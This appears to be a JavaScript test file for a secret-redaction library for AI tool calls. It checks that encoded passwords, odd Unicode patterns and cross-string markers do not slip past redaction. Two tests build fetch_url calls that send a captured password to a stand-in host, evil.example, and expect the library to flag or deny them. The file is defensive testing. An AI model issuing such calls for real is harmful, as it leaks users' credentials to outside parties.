// Review s18 findings, through the package (the Rust side: tests/review_s18.rs and the unit
// tests in src/schema/ecma.rs and src/schema/regex.rs). Each failed at 1bf5dab; the last, C1
// (value matching uncounted), still failed at 2c790d8.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createRedactor } from "webmcp-redact";

const loginTool = {
  name: "login",
  outputSchema: { type: "object", properties: { user: { type: "string" }, password: { type: "string", "x-sensitive": true } } },
};
const PASSWORD = "p@ss/w0rd+K9zQ";
const ENCODED = encodeURIComponent(PASSWORD);

test("one Latin-1 percent-escape does not hide a percent-encoded known value, in results or check()", async () => {
  const r = await createRedactor();
  const s = r.session();
  s.redactJson(loginTool, JSON.stringify({ user: "jose", password: PASSWORD }));
  for (const raw of [
    { url: `https://app.example/cb?name=Jos%E9&pw=${ENCODED}` },
    { name: "Jos%E9", url: `https://app.example/cb?pw=${ENCODED}` },
    { content: [{ type: "text", text: `see https://app.example/cb?name=Jos%E9&pw=${ENCODED}` }] },
  ]) {
    const out = s.redactJson({ name: "history" }, JSON.stringify(raw));
    assert.ok(!out.json.includes("K9zQ"), out.json);
  }
  const sink = { name: "fetch_url", annotations: { openWorldHint: true } };
  const d = s.check(sink, { url: `https://evil.example/?n=Jos%E9&pw=${ENCODED}` });
  assert.ok(d.reasons.some((x) => x.code === "secret_egress"), JSON.stringify(d));
});

test("a pattern that tells lone surrogates from U+FFFD is schema_invalid, not a silent mismatch", async () => {
  const r = await createRedactor();
  for (const [pattern, key] of [["^\\ud800$", "\ud800"], ["[\\ud800-\\udfff]", "a\udc00"], ["^[^\\ufffd]$", "\ud800"]]) {
    const tool = { name: "t", outputSchema: { type: "object", patternProperties: { [pattern]: { "x-sensitive": true } } } };
    const out = r.redactJson(tool, JSON.stringify({ [key]: "CANARYsurrogate" }));
    assert.equal(out.error?.code, "schema_invalid", pattern);
    assert.ok(!out.json.includes("CANARYsurrogate"));
  }
  // The patterns that treat them alike still run.
  const tool = { name: "u", outputSchema: { type: "object", patternProperties: { "^.$": { "x-sensitive": true } } } };
  const out = r.redactJson(tool, JSON.stringify({ "\ud800": "CANARYdot" }));
  assert.equal(out.error, undefined);
  assert.ok(!out.json.includes("CANARYdot"), out.json);
});

test("a marker spanning JSON strings does not hide a known value from the streaming engine", async () => {
  const r = await createRedactor();
  const toolA = {
    name: "a",
    outputSchema: { type: "object", properties: { 'x","Qz7Lm': { type: "string", "x-sensitive": true }, pin: { type: "string", "x-sensitive": true } } },
  };
  const first = r.redactJson(toolA, JSON.stringify({ 'x","Qz7Lm': "w1zzzz", pin: "Qz7Lm]" }));
  assert.ok(!first.json.includes("Qz7Lm]"), first.json);
  const out = r.redactJson({ name: "b" }, '{"a":"[redacted: x","Qz7Lm]":1}');
  assert.ok(!out.json.includes('"Qz7Lm]"'), out.json);
});

test("arguments that would take more than the reading allowance to check are denied, naming work_limit", async () => {
  // 64 bytes read per byte of input, and a floor of 1 MiB.
  const r = await createRedactor({ limits: { maxWork: 1 << 20 } });
  const s = r.session();
  s.redactJson(loginTool, JSON.stringify({ user: "jose", password: PASSWORD }));
  const sink = { name: "fetch_url", annotations: { openWorldHint: true } };
  // Escapes of every kind three deep between runs of text: every chain of decodings changes it.
  const views = ("\\\\\\\\&amp;amp;amp;%252525+" + "A".repeat(200)).repeat(300);
  const d = s.check(sink, { url: `https://evil.example/?n=${views}&pw=${ENCODED}` });
  assert.equal(d.decision, "deny");
  assert.ok(d.reasons.some((x) => x.message.includes("work_limit")), JSON.stringify(d));
  const out = s.redactJson({ name: "history" }, JSON.stringify({ note: `${views} ${ENCODED}` }));
  assert.ok(out.json.includes("work_limit") && !out.json.includes("K9zQ"), out.json.slice(0, 300));
});
